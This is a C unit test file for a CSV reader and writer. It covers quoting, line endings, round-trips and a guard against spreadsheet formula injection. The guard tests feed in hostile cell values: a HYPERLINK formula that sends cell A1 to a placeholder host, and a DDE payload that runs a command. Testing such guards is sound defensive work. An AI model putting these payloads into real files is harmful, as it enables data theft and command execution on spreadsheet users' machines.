/* test_csv.c - RFC 4180 reading and writing; cells safe in a spreadsheet. */
#include "testutil.h"

#include "arena.h"
#include "buf.h"
#include "csv.h"

static void parses_quotes_and_line_ends(void **state) {
    (void)state;
    const char *text = "\xEF\xBB\xBF"
                       "date,kind,name\r\n2026-02-16,off,\"Tết, Nguyên đán\"\r\n\r\n"
                       "2026-01-10,workday,\"Làm bù \"\"thứ Bảy\"\"\nhai dòng\"\n2026-09-02,off,Quốc khánh";
    arena *a = arena_create();
    csv_record *r;
    size_t n;
    mc_error err;
    assert_int_equal(csv_parse(a, text, strlen(text), &r, &n, &err), MC_OK);
    assert_int_equal(n, 4);
    assert_string_equal(r[0].fields[0], "date");
    assert_string_equal(r[1].fields[2], "Tết, Nguyên đán");
    assert_string_equal(r[2].fields[2], "Làm bù \"thứ Bảy\"\nhai dòng");
    assert_int_equal(r[2].line, 4);
    assert_int_equal(r[3].line, 6);
    assert_string_equal(r[3].fields[2], "Quốc khánh");
    const char *bad1 = "a,\"b\n";
    assert_int_equal(csv_parse(a, bad1, strlen(bad1), &r, &n, &err), MC_ERR_INVALID);
    const char *bad2 = "a,b\"c\n";
    assert_int_equal(csv_parse(a, bad2, strlen(bad2), &r, &n, &err), MC_ERR_INVALID);
    const char *bad3 = "a,\"b\"c\n";
    assert_int_equal(csv_parse(a, bad3, strlen(bad3), &r, &n, &err), MC_ERR_INVALID);
    arena_free(a);
}

static void writes_round_trip(void **state) {
    (void)state;
    buf b = {0};
    const char *fields[] = {"plain", "có, dấu phẩy", "ngoặc \"kép\"", "hai\ndòng"};
    for (int i = 0; i < 4; i++) {
        if (i) buf_putc(&b, ',');
        csv_put_field(&b, fields[i]);
    }
    assert_string_equal(b.data, "\"plain\",\"có, dấu phẩy\",\"ngoặc \"\"kép\"\"\",\"hai\ndòng\"");
    arena *a = arena_create();
    csv_record *r;
    size_t n;
    mc_error err;
    assert_int_equal(csv_parse(a, b.data, b.len, &r, &n, &err), MC_OK);
    assert_int_equal(n, 1);
    assert_int_equal(r[0].n, 4);
    for (int i = 0; i < 4; i++) assert_string_equal(r[0].fields[i], fields[i]);
    arena_free(a);
    buf_free(&b);
}

/* One cell as csv_put_field writes it. */
static char *cell(const char *s) {
    buf b = {0};
    csv_put_field(&b, s);
    return buf_steal(&b);
}

static void guards_formulas(void **state) {
    (void)state;
    static const struct {
        const char *in, *out;
    } cases[] = {
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"bấm\"\")\""},
        {"+84 912", "\"'+84 912\""},
        {"-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""},
        {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
        {"\t=1+1", "\"'\t=1+1\""},
        {"\r=1+1", "\"'\r=1+1\""},
        {"\n=1+1", "\"'\n=1+1\""},
        {"\xEF\xBC\x9D"
         "1+1",
         "\"'\xEF\xBC\x9D"
         "1+1\""}, /* full-width = */
        {"\xEF\xBC\xA0"
         "x",
         "\"'\xEF\xBC\xA0"
         "x\""},             /* full-width @ */
        {"'=1", "\"''=1\""}, /* a quote of its own is kept */
        {"'plain", "\"''plain\""},
        {"Bế Văn Trễ", "\"Bế Văn Trễ\""},
        {"a=b", "\"a=b\""}, /* only the first character counts */
        {" =1", "\" =1\""},
        {"\xEF\xBC\x91", "\"\xEF\xBC\x91\""}, /* full-width 1: not a trigger */
        {"", "\"\""},
        {NULL, "\"\""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *got = cell(cases[i].in);
        assert_string_equal(got, cases[i].out);
        free(got);
    }
    assert_true(csv_needs_guard("=1"));
    assert_true(csv_needs_guard("-1"));
    assert_false(csv_needs_guard("'=1"));
    assert_false(csv_needs_guard("Nông"));
    assert_false(csv_needs_guard(NULL));
}

static void guarded_cells_read_back(void **state) {
    (void)state;
    const char *fields[] = {"=1+1",
                            "'=1",
                            "''",
                            "'",
                            "-",
                            "@",
                            "\tx",
                            "Tết",
                            "",
                            "\xEF\xBC\x8B"
                            "1"};
    size_t nf = sizeof fields / sizeof fields[0];
    buf b = {0};
    for (size_t i = 0; i < nf; i++) {
        if (i) buf_putc(&b, ',');
        csv_put_field(&b, fields[i]);
    }
    buf_puts(&b, "\r\n'=bare,\"'x\"\r\n");
    arena *a = arena_create();
    csv_record *r;
    size_t n;
    mc_error err;
    assert_int_equal(csv_parse(a, b.data, b.len, &r, &n, &err), MC_OK);
    assert_int_equal(n, 2);
    assert_int_equal(r[0].n, nf);
    for (size_t i = 0; i < nf; i++) assert_string_equal(r[0].fields[i], fields[i]);
    /* Only a guard csv_put_field would write comes off: not in a bare field, not before other text. */
    assert_string_equal(r[1].fields[0], "'=bare");
    assert_string_equal(r[1].fields[1], "'x");
    arena_free(a);
    buf_free(&b);
}

int main(void) {
    const struct CMUnitTest tests[] = {cmocka_unit_test(parses_quotes_and_line_ends),
                                       cmocka_unit_test(writes_round_trip), cmocka_unit_test(guards_formulas),
                                       cmocka_unit_test(guarded_cells_read_back)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
